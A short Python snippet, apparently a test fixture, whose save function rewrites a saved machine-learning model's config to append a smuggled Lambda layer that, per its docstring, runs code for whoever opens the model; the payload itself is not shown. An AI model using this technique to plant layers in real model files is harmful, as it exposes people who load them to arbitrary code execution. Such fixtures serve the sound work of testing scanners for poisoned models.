"""A Lambda layer, whose code would run in whoever opens the model."""
# places: model
# bgw: BGW-129


def save(path):
    rewrite(path, lambda parts, config: config["config"]["layers"].append(smuggled))
